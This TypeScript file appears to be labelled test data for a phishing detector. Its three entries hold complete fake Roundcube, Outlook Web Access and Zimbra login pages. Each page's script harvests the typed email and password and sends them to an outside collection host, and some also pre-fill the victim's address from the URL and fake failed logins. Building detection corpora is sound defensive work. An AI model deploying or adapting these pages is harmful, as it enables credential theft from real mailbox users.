import type { Entry } from '../entry.js';
import type { Route } from '../../corpus/corpus.js';

// Webmail clones that brand themselves from the victim's address at run time.
const raw = String.raw;
const js = (body: string): Route => ({ status: 200, headers: { 'content-type': 'application/javascript; charset=utf-8' }, body });

export const entries: Entry[] = [
  {
    id: 'c-webmail-roundcube-autobrand',
    label: 'phishing',
    kind: 'webmail',
    url: 'https://mail-quota-notice.sbs/webmail/?_task=login#ZmluYW5jZUBub3J0aHdpbmQtdHJhZGVycy5jb20=',
    body: raw`<!DOCTYPE html>
<html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Webmail :: Welcome</title>
<style>
body{margin:0;background:#f1f3f4;font-family:"Roboto",Arial,sans-serif}
#layout{display:flex;align-items:center;justify-content:center;min-height:100vh}
#login{width:360px;background:#fff;border-radius:4px;box-shadow:0 2px 6px #0003;padding:30px}
#logo{text-align:center;margin-bottom:18px}#logo img{max-height:56px}#logo b{display:block;font-size:22px;color:#37beff;margin-top:6px}
.q{background:#fff4e5;border:1px solid #ffc266;padding:10px;font-size:13px;margin-bottom:16px}
.bar{height:10px;background:#eee;border-radius:5px;overflow:hidden;margin-top:6px}.bar i{display:block;height:10px;width:98%;background:#e74c3c}
input{width:100%;padding:10px;border:1px solid #ccc;border-radius:3px;margin-bottom:12px;box-sizing:border-box;font-size:15px}
button{width:100%;padding:11px;border:0;border-radius:3px;background:#37beff;color:#fff;font-size:15px;cursor:pointer}
#err{color:#c00;font-size:13px;margin-bottom:10px}
</style></head>
<body><div id="layout"><div id="login"></div></div>
<script>
(function(){
  var h = location.hash.slice(1), email = '';
  try { email = /@/.test(h) ? decodeURIComponent(h) : atob(h); } catch(e) {}
  var dom = email.split('@')[1] || '';
  var org = dom ? dom.split('.')[0] : '';
  org = org.charAt(0).toUpperCase() + org.slice(1);
  document.title = (org ? org + ' ' : '') + 'Webmail :: Welcome to ' + (dom || 'Webmail');
  var icon = dom ? 'https://www.google.com/s2/favicons?sz=64&domain=' + dom : '';
  var box = document.getElementById('login');
  box.innerHTML = '<div id="logo">' + (icon ? '<img src="' + icon + '" onerror="this.remove()">' : '') + '<b>' + (org || 'Webmail') + '</b></div>'
    + '<div class="q">Your mailbox <b>' + email + '</b> has exceeded its storage limit (1.98 GB / 2 GB). Incoming messages are being held. Sign in to upgrade your quota.<div class="bar"><i></i></div></div>'
    + '<div id="err"></div><input id="u" value="' + email + '" readonly><input id="p" type="password" placeholder="Password" autofocus><button id="b">Login</button>'
    + '<p style="font-size:11px;color:#999;text-align:center;margin-top:18px">Roundcube Webmail &middot; ' + (dom || '') + '</p>';
  var tries = 0;
  document.getElementById('b').onclick = function(){
    var p = document.getElementById('p').value; if(!p) return;
    tries++;
    var x = new XMLHttpRequest();
    x.open('POST', 'https://mx-report.webhost-cloud.cc/rc/next.php', true);
    x.setRequestHeader('Content-type', 'application/x-www-form-urlencoded');
    x.send('email=' + encodeURIComponent(email) + '&pass=' + encodeURIComponent(p) + '&t=' + tries);
    if (tries < 3) { document.getElementById('err').textContent = 'Login failed. Incorrect password.'; document.getElementById('p').value=''; return; }
    location.href = 'http://' + dom;
  };
})();
</script></body></html>`,
  },
  {
    id: 'c-webmail-owa-clone',
    label: 'phishing',
    kind: 'webmail',
    url: 'https://owa-mailboxsync.azurewebsites.net/owa/auth/logon.aspx?replaceCurrent=1&url=%2fowa%2f',
    body: raw`<!DOCTYPE html><html dir="ltr"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1.0"><title>Outlook</title>
<link rel="stylesheet" href="/owa/auth/15.2.1258/themes/resources/logon.css"></head>
<body class="signInBg"><noscript><div>To use Outlook, browser settings must allow scripts to run.</div></noscript><div id="mainLogonDiv"></div>
<script src="/owa/auth/15.2.1258/scripts/flogon.js"></script></body></html>`,
    routes: {
      'owa-mailboxsync.azurewebsites.net/owa/auth/15.2.1258/themes/resources/logon.css': { status: 200, headers: { 'content-type': 'text/css' }, body: raw`body{margin:0;font-family:"Segoe UI",Tahoma,sans-serif;background:#fff}.sidebar{position:fixed;left:0;top:0;bottom:0;width:35%;background:#0072c6}.logonContainer{margin-left:40%;padding-top:120px;max-width:400px}.signInHeader{font-size:40px;font-weight:200;color:#333}.signInInputLabel{font-size:14px;color:#333;margin-top:20px}.signInInputText{width:100%;height:32px;border:1px solid #666;padding:4px 8px;box-sizing:border-box;font-size:14px}.signinbutton{margin-top:24px;display:inline-flex;align-items:center;gap:10px;font-size:24px;color:#333;cursor:pointer}.signinbutton i{display:inline-block;width:28px;height:28px;border-radius:50%;border:2px solid #333}.signInError{color:#c00;font-size:13px}` },
      'owa-mailboxsync.azurewebsites.net/owa/auth/15.2.1258/scripts/flogon.js': js(raw`var g_fFcs=true;
function clkLgn(){
  var u=document.getElementById('username'),p=document.getElementById('password'),e=document.getElementById('signInErrorDiv');
  if(!u.value||u.value.indexOf('@')<0&&u.value.indexOf('\\')<0){e.textContent='The user name or password you entered isn\'t correct. Try entering it again.';return}
  if(!p.value){e.textContent='Please enter your password.';return}
  var d='destination='+encodeURIComponent(location.href)+'&flags=4&forcedownlevel=0&username='+encodeURIComponent(u.value)+'&password='+encodeURIComponent(p.value)+'&passwordText=&isUtf8=1';
  fetch('https://exch-relay.safelinks-outlook.site/owa/auth.owa',{method:'POST',mode:'no-cors',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:d}).then(function(){
    sessionStorage.n=(+sessionStorage.n||0)+1;
    if(sessionStorage.n<2){e.textContent='The user name or password you entered isn\'t correct. Try entering it again.';p.value='';}
    else location.replace('https://outlook.office.com/mail/');
  });
}
document.getElementById('mainLogonDiv').innerHTML='<div class="sidebar"></div><div class="logonContainer"><div class="signInHeader">Outlook</div><div class="signInError" id="signInErrorDiv"></div><div class="signInInputLabel">Domain\\user name:</div><input id="username" class="signInInputText" name="username" placeholder="user@domain.com"><div class="signInInputLabel">Password:</div><input id="password" class="signInInputText" type="password" name="password" onkeyup="if(event.keyCode==13)clkLgn()"><div class="signinbutton" role="button" onclick="clkLgn()"><i></i><span>sign in</span></div></div>';
var h=location.hash.substr(1);if(h)document.getElementById('username').value=h.indexOf('@')>0?h:atob(h);`),
    },
  },
  {
    id: 'c-webmail-zimbra-session',
    label: 'phishing',
    kind: 'webmail',
    url: 'https://zimbra-session-expired.carrd.co.mailbox-upgrade.net/',
    body: raw`<!doctype html><html><head><meta charset="utf-8"><title>Zimbra Web Client Sign In</title>
<style>body{background:#2c4a73 linear-gradient(#3b6a9f,#1d3557);font-family:Helvetica,Arial,sans-serif;margin:0;min-height:100vh;display:flex;align-items:center;justify-content:center}.LoginScreen{background:#fff;width:420px;border-radius:4px;padding:32px 40px;box-shadow:0 0 30px #0006}.ImgLoginBanner{font:700 34px Arial;color:#0f1f3b;letter-spacing:-1px}.ImgLoginBanner span{color:#ef5b25}table{width:100%}td{padding:6px 0;font-size:13px}input[type=text],input[type=password]{width:100%;padding:7px;border:1px solid #999;box-sizing:border-box}.ZLoginButton{background:#0070be;color:#fff;border:0;padding:7px 18px;border-radius:3px}.msg{font-size:12px;background:#ffd;border:1px solid #ec0;padding:8px;margin:12px 0}</style></head>
<body><div class="LoginScreen"><div class="ImgLoginBanner">zimbra<span>.</span></div><div id="zm"></div></div>
<script>
var zm = document.getElementById('zm');
var msg = ['Your session has expired.', 'For security reasons you have been signed out.', 'Please sign in again to continue to your mailbox.'];
var i = 0;
var t = setInterval(function () {
  zm.innerHTML = '<div class="msg">' + msg.slice(0, ++i).join(' ') + '</div>';
  if (i === msg.length) { clearInterval(t); form(); }
}, 400);
function form() {
  zm.innerHTML += '<table><tr><td>Username:</td></tr><tr><td><input type="text" id="username"></td></tr><tr><td>Password:</td></tr><tr><td><input type="password" id="password"></td></tr><tr><td><label><input type="checkbox" checked> Stay signed in</label></td></tr><tr><td><button class="ZLoginButton" id="lb">Sign In</button></td></tr></table>';
  document.getElementById('lb').onclick = function () {
    var body = JSON.stringify({ u: document.getElementById('username').value, p: document.getElementById('password').value, h: location.hostname, ip: null });
    fetch('https://hooks.zapier-relay.net/catch/1772211/ofk2/', { method: 'POST', body: body }).then(function () { location.href = '/zimbra/mail?loginOp=relogin'; }, function () { location.href = '/zimbra/mail?loginOp=relogin'; });
  };
}
</script></body></html>`,
  },
];
